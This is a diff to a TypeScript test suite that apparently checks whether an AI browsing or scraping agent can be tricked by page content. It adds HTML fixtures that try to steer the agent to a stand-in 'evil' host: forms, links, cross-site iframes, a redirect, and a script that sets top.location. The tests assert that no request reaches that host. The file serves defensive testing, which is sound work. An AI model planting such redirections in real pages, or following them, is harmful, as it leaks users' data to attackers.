@@ -1,3 +1,4 @@
+import type { RequestListener } from 'node:http';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { type ApiResponse, call } from '../support/api.ts';
 import { sampleOf } from '../support/corpus.ts';
@@ -209,8 +210,20 @@ describe('pages with orders for a model that obeys them', () => {
   }, 600_000);
 });
 
-/** Ways of a page to lead a prompt to a host that nobody has named. What is called "Way" is clicked. */
-const WAYS: readonly [name: string, html: (to: string) => string][] = [
+/** Documents that frames of another site show. */
+const FRAMES: Readonly<Record<string, (to: string, foreign: string) => string>> = {
+  '/frame/empty': () => '<p>Empty</p>',
+  '/frame/form': (to) => `<form action="${to}"><input name="data" value="berger"><button>Way</button></form>`,
+  '/frame/post': (to) => `<form action="${to}" method="post"><button>Way</button></form>`,
+  '/frame/link': (to) => `<a href="${to}">Way</a>`,
+  '/frame/nested': (to) => `<iframe srcdoc='<form action="${to}"><button>Way</button></form>'></iframe>`,
+};
+
+/**
+ * Ways of a page to lead a prompt to a host that nobody has named. What is called "Way" is clicked. The foreign site is the same server
+ * by another name, whose frames the page may show.
+ */
+const WAYS: readonly [name: string, html: (to: string, foreign: string) => string][] = [
   ['a link in a new tab with an opener', (to) => `<a href="${to}" target="_blank" rel="opener">Way</a>`],
   ['a form', (to) => `<form action="${to}"><input name="data" value="berger"><button>Way</button></form>`],
   [
@@ -251,6 +264,46 @@ const WAYS: readonly [name: string, html: (to: string) => string][] = [
     (to) =>
       `<button onclick="document.querySelector('iframe').srcdoc = '<script>top.location = \\'${to}\\'</scr' + 'ipt>'">Way</button><iframe></iframe>`,
   ],
+  [
+    'a form that targets a frame',
+    (to) =>
+      `<form action="${to}" target="f"><input name="data" value="berger"><button>Way</button></form><iframe name="f"></iframe>`,
+  ],
+  [
+    'a form that posts to a frame',
+    (to) =>
+      `<form action="${to}" method="post" target="f"><input name="data" value="berger"><button>Way</button></form><iframe name="f"></iframe>`,
+  ],
+  [
+    'a form that targets a frame of another site',
+    (to, foreign) =>
+      `<form action="${to}" target="f"><input name="data" value="berger"><button>Way</button></form><iframe name="f" src="${foreign}/frame/empty"></iframe>`,
+  ],
+  [
+    'a form that targets a frame over a redirect',
+    () =>
+      '<form action="/moved" target="f"><input name="data" value="berger"><button>Way</button></form><iframe name="f"></iframe>',
+  ],
+  [
+    'a script that submits a form to a frame',
+    (to) =>
+      `<form id="x" action="${to}" target="f"></form><button onclick="x.submit()">Way</button><iframe name="f"></iframe>`,
+  ],
+  [
+    'a form in a frame',
+    (to) =>
+      `<iframe srcdoc='<form action="${to}"><input name="data" value="berger"><button>Way</button></form>'></iframe>`,
+  ],
+  ['a form in a frame of another site', (_, foreign) => `<iframe src="${foreign}/frame/form"></iframe>`],
+  [
+    'a form that posts in a frame of another site',
+    (_, foreign) => `<iframe src="${foreign}/frame/post"></iframe>`,
+  ],
+  ['a link in a frame of another site', (_, foreign) => `<iframe src="${foreign}/frame/link"></iframe>`],
+  [
+    'a form in a frame in a frame of another site',
+    (_, foreign) => `<iframe src="${foreign}/frame/nested"></iframe>`,
+  ],
   ['a meta refresh', (to) => `<meta http-equiv="refresh" content="0;url=${to}"><p>Way</p>`],
 ];
 
@@ -260,12 +313,23 @@ describe('a page that leads a prompt elsewhere', () => {
   let path: string;
   beforeAll(async () => {
     const to = `${evil.url}/take`;
+    const foreign = () => own.url.replace('127.0.0.1', 'localhost');
+    const htmlOf =
+      (html: () => string): RequestListener =>
+      (_, response) =>
+        response.setHeader('content-type', 'text/html').end(html());
     own = await startPages({
       '/start': '<title>Start</title><h1>Start</h1>',
       '/moved': (request, response) =>
         response.writeHead(307, { location: request.url?.endsWith('again') ? '/moved' : to }).end(),
       ...Object.fromEntries(
-        WAYS.map(([, html], index) => [`/way/${index}`, `<title>Way out</title><h1>Here</h1>${html(to)}`]),
+        WAYS.map(([, html], index) => [
+          `/way/${index}`,
+          htmlOf(() => `<title>Way out</title><h1>Here</h1>${html(to, foreign())}`),
+        ]),
+      ),
+      ...Object.fromEntries(
+        Object.entries(FRAMES).map(([each, html]) => [each, htmlOf(() => html(to, foreign()))]),
       ),
     });
     const { body } = await call('/v2/scrape', { ...access(), body: { url: `${own.url}/start` } });
@@ -283,7 +347,7 @@ describe('a page that leads a prompt elsewhere', () => {
     ),
   )(
     'stays where it is: %s',
-    async (_name, index) => {
+    async (name, index) => {
       let turns = 0;
       endpoint.reply(({ prompt }) => {
         const view = prompt.slice(prompt.lastIndexOf('URL: '));
@@ -302,8 +366,10 @@ describe('a page that leads a prompt elsewhere', () => {
       expect(body, JSON.stringify(body)).toMatchObject({ success: true, output: 'stayed' });
       expect(evil.requests).toEqual([]);
       expect(body.result).not.toContain('Everything was taken');
-      // Something was tried.
-      expect(body.stdout).toMatch(/click|may not be opened/);
+      // Something was tried, and in a frame it has not only been clicked.
+      expect(body.stdout).toMatch(
+        /form.*frame|link in a frame/.test(name) ? /may not be opened/ : /click|may not be opened/,
+      );
     },
     240_000,
   );
